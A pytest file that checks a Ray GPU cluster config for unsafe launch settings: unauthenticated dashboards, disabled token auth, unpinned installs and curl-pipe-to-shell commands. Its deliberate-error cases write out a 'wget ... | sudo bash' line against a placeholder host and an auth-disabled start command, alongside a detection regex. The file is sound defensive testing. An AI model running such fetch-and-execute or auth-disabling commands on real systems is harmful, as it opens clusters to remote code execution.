"""cluster/gpu-cluster.yaml rendered as `ray up` renders it (Ray's own prepare_config: the file over the
provider's defaults.yaml, setup_commands merged into the head's and the workers'), then checked: no
dashboard on 0.0.0.0 without token auth, no `curl | sh`, no RAY_AUTH_MODE but token, every install
pinned. Nothing is launched and no Ray is started (the autoscaler's config helpers are plain Python)."""
from __future__ import annotations

import copy
import re
import shlex
from pathlib import Path

import pytest
import yaml

REPO = Path(__file__).resolve().parents[1]
CONFIG = REPO / "cluster" / "gpu-cluster.yaml"
COMMAND_KEYS = ("initialization_commands", "setup_commands", "head_setup_commands", "worker_setup_commands",
                "head_start_ray_commands", "worker_start_ray_commands")
CURL_SH = re.compile(r"\b(curl|wget)\b[^|;&]*\|\s*(sudo\s+)?(ba|z|da)?sh\b")
AUTH_MODE = re.compile(r"\bRAY_AUTH_MODE=(\S+)")
DASHBOARD_HOST = re.compile(r"--dashboard-host[= ](\S+)")
LOOPBACK = ("127.0.0.1", "localhost", "::1")
VALUE_OPTIONS = {"--python", "-p", "--index-url", "-i", "--extra-index-url", "--target", "-t", "--prefix",
                 "-e", "--editable", "-c", "--constraint", "-r", "--requirement", "--find-links", "-f"}


def pins() -> dict[str, str]:
    return dict(re.findall(r'"([A-Za-z0-9_.-]+)(?:\[[^\]]*\])?==([^";\s]+)"', (REPO / "pyproject.toml").read_text()))


def render(config: dict) -> dict:
    """What `ray up` works from (before the cloud bootstrap), validated against Ray's cluster schema."""
    from ray.autoscaler._private.util import prepare_config, validate_config

    rendered = prepare_config(copy.deepcopy(config))
    validate_config(rendered)
    return rendered


def commands(rendered: dict) -> list[tuple[str, str]]:
    out = [(key, cmd) for key in COMMAND_KEYS for cmd in rendered.get(key) or []]
    for name, node in (rendered.get("available_node_types") or {}).items():
        out += [(f"available_node_types.{name}.{key}", cmd) for key in COMMAND_KEYS for cmd in node.get(key) or []]
    return out


def simple_commands(cmd: str):
    """The simple commands of a shell line (split at ; && || | and parentheses), as argv lists."""
    lex = shlex.shlex(cmd, posix=True, punctuation_chars=True)
    lex.whitespace_split = True
    argv = []
    for tok in lex:
        if tok and set(tok) <= set(";&|()"):
            if argv:
                yield argv
            argv = []
        else:
            argv.append(tok)
    if argv:
        yield argv


def installs(argv: list[str]) -> list[str]:
    """The packages `pip install` / `uv pip install` / `apt-get install` get in ``argv`` (local paths skipped)."""
    if "install" not in argv:
        return []
    i = argv.index("install")
    if i == 0 or not (argv[i - 1] in ("pip", "pip3", "apt-get", "apt") or argv[i - 1].endswith("/pip")):
        return []
    out, rest = [], iter(argv[i + 1:])
    for arg in rest:
        if arg in VALUE_OPTIONS:
            next(rest, None)
        elif not arg.startswith(("-", ".", "/", "~", ">")):
            out.append(arg)
    return out


def problems(rendered: dict) -> list[str]:
    out = []
    for where, cmd in commands(rendered):
        try:
            argvs = list(simple_commands(cmd))
        except ValueError as exc:
            out.append(f"{where}: {cmd!r}: not a valid shell command ({exc})")
            continue
        if CURL_SH.search(cmd):
            out.append(f"{where}: {cmd!r}: `curl ... | sh` runs whatever the server sends; install pinned packages")
        modes = [m.strip("'\"") for m in AUTH_MODE.findall(cmd)]
        out += [f"{where}: RAY_AUTH_MODE={m}: Ray's token authentication must stay on" for m in modes if m != "token"]
        token = "token" in modes
        for argv in argvs:
            if "ray" not in [a.rsplit("/", 1)[-1] for a in argv] or "start" not in argv:
                continue
            if "--head" in argv:
                m = DASHBOARD_HOST.search(cmd)
                host = m.group(1) if m else "localhost"  # ray start's default
                if host not in LOOPBACK and not token:
                    out.append(f"{where}: dashboard on {host} without token authentication: anyone who reaches "
                               f"the head runs code on the cluster")
            if not token:
                out.append(f"{where}: `ray start` without RAY_AUTH_MODE=token")
        for argv in argvs:
            for package in installs(argv):
                if "==" not in package and not (argv[0] in ("apt-get", "apt") and "=" in package):
                    out.append(f"{where}: {package}: not pinned (name==version)")
    return out


@pytest.fixture(scope="module")
def config() -> dict:
    return yaml.safe_load(CONFIG.read_text())


@pytest.fixture(scope="module")
def rendered(config) -> dict:
    return render(config)


def test_the_cluster_config_is_safe_to_launch(rendered):
    assert problems(rendered) == []
    head = " ".join(rendered["head_start_ray_commands"])
    assert "--dashboard-host=127.0.0.1" in head and "RAY_AUTH_MODE=token" in head
    assert all("RAY_AUTH_MODE=token" in c for c in rendered["worker_start_ray_commands"] if "ray start" in c)
    assert "RAY_AUTH_MODE=disabled" not in CONFIG.read_text()


def test_it_installs_what_pyproject_pins(rendered):
    packages = {p for _, cmd in commands(rendered) for argv in simple_commands(cmd) for p in installs(argv)}
    pin = pins()
    assert {f"torch=={pin['torch']}", f"torchvision=={pin['torchvision']}",
            f"ray[default,train,tune,serve]=={pin['ray']}"} <= packages
    assert any(p.startswith("uv==") for p in packages) and any(p.startswith("boto3==") for p in packages)


def test_the_token_comes_from_a_file_outside_the_repository(rendered):
    mounts = rendered["file_mounts"]
    assert mounts["~/.ray/auth_token"].startswith("~/")  # Ray's default token path on each node
    assert not Path(mounts["~/.ray/auth_token"]).expanduser().resolve().is_relative_to(REPO)
    assert any(c.startswith("test -s ~/.ray/auth_token") for c in rendered["head_setup_commands"])


def _head_start(*cmds):
    return lambda c: c.update(head_start_ray_commands=list(cmds))


BROKEN = {  # id: (mutation of the loaded file, what a problem must name)
    "0.0.0.0 dashboard without auth": (
        _head_start("ray stop", "ray start --head --port=6379 --dashboard-host=0.0.0.0"),
        ["head_start_ray_commands", "dashboard on 0.0.0.0 without token authentication"]),
    "Ray's default head start (0.0.0.0)": (lambda c: c.pop("head_start_ray_commands"),
                                            ["head_start_ray_commands", "dashboard on 0.0.0.0"]),
    "curl | sh": (lambda c: c["setup_commands"].insert(0, "curl -LsSf https://astral.sh/uv/install.sh | sh"),
                  ["head_setup_commands", "curl ... | sh"]),
    "wget | sudo bash": (lambda c: c["worker_setup_commands"].append("wget -qO- https://x.example/i | sudo bash"),
                         ["worker_setup_commands", "curl ... | sh"]),
    "auth disabled": (lambda c: c.update(worker_start_ray_commands=[
                          "RAY_AUTH_MODE=disabled ray start --address=$RAY_HEAD_IP:6379"]),
                      ["worker_start_ray_commands", "RAY_AUTH_MODE=disabled"]),
    "unpinned install": (lambda c: c["setup_commands"].append("python3 -m pip install --user uv"),
                         ["setup_commands", "uv: not pinned"]),
    "Ray's default head setup (unpinned boto3)": (lambda c: c.pop("head_setup_commands"),
                                                  ["head_setup_commands", "boto3>=1.4.8: not pinned"]),
    "a comment eats a quote": (lambda c: c["setup_commands"].append("echo 'export X=1"),
                               ["setup_commands", "not a valid shell command"]),
}


@pytest.mark.parametrize("case", list(BROKEN), ids=list(BROKEN))
def test_a_deliberate_error_is_named(case, config):
    mutate, expected = BROKEN[case]
    bad = copy.deepcopy(config)
    mutate(bad)
    found = problems(render(bad))
    assert any(all(e in p for e in expected) for p in found), f"{case}: nothing names {expected}:\n" + "\n".join(found)


def test_a_dashboard_on_all_interfaces_passes_with_token_auth(config):
    """The rule is "no 0.0.0.0 dashboard without auth", not "never 0.0.0.0"."""
    ok = copy.deepcopy(config)
    ok["head_start_ray_commands"] = ["ray stop", "RAY_AUTH_MODE=token ray start --head --dashboard-host=0.0.0.0"]
    assert problems(render(ok)) == []
